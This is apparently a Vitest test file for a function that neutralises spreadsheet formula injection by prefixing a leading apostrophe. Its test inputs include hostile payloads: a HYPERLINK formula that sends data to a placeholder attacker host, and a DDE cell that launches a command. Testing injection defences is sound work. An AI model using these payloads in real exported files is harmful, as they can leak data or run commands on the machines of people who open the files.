import { describe, expect, it } from 'vitest';
import { spreadsheetText } from './spreadsheet-cell.js';

describe('spreadsheetText', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak","open")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises %j with a leading apostrophe', (payload) => {
    expect(spreadsheetText(payload)).toBe(`'${payload}`);
  });

  it.each(['alice', '203.0.113.7', '2026-11-25T17:00:00.000Z', 'a=b', 'spam, "quoted"', ''])(
    'leaves %j as it is',
    (text) => {
      expect(spreadsheetText(text)).toBe(text);
    },
  );
});
